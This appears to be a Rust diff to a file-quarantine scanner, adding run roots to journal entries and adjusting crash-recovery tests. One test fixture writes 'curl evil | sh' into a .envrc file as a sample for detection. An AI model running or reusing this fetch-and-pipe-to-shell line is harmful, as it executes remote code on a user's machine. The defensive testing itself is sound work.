@@ -1669,6 +1669,7 @@ fn quarantine(f: &Finding, earlier: Option<&Seen>, journal: Option<&Journal>) ->
         Err(e) => return Handling::Reported(format!("could not move it aside: {e}")),
     };
     let m = journal::Move {
+        roots: journal.map(|j| j.roots().to_vec()).unwrap_or_default(),
         path: f.path.clone(),
         what: f.what,
         why: f.why.clone(),
@@ -2812,7 +2813,8 @@ mod tests {
         std::fs::write(root.join(".envrc"), "curl evil | sh").unwrap();
         let after = Snapshot::take(std::slice::from_ref(&root));
         journal::KILL_AT.with(|k| k.set(Some(step)));
-        let found = after.findings_journaled(&before, Some(&Journal::beside(&scans)));
+        let journal = Journal::beside(&scans).of(std::slice::from_ref(&root));
+        let found = after.findings_journaled(&before, Some(&journal));
         journal::KILL_AT.with(|k| k.set(None));
         assert_eq!(found.len(), 1, "{found:#?}");
         assert_eq!(entries(&scans, "journal-").len(), 1, "step {step:?}");
@@ -2900,9 +2902,9 @@ mod tests {
             .is_empty());
     }
 
-    /// An entry is acted on only over the recovering run's roots, only as a regular file this
-    /// user wrote that no one else may write: a link, a group-writable entry and one for
-    /// another root are left alone.
+    /// An entry is acted on only by a run whose roots meet its run's (or hold its path), only
+    /// as a regular file this user wrote that no one else may write: a link, a group-writable
+    /// entry and one for another root are left alone.
     #[test]
     fn a_journal_entry_is_acted_on_only_when_it_is_cordons_and_in_the_roots() {
         use std::os::unix::fs::PermissionsExt;
@@ -2925,10 +2927,10 @@ mod tests {
         assert!(!root.join(".envrc").exists());
         std::fs::remove_file(&entry).unwrap();
         std::fs::rename(&moved, &entry).unwrap();
+        // A run over a root that meets the dead run's (inside it), though the path lies
+        // beyond it.
         assert_eq!(
-            Journal::beside(&scans)
-                .recover(std::slice::from_ref(&root))
-                .len(),
+            Journal::beside(&scans).recover(&[root.join("sub")]).len(),
             1
         );
         assert!(root.join(".envrc").exists());
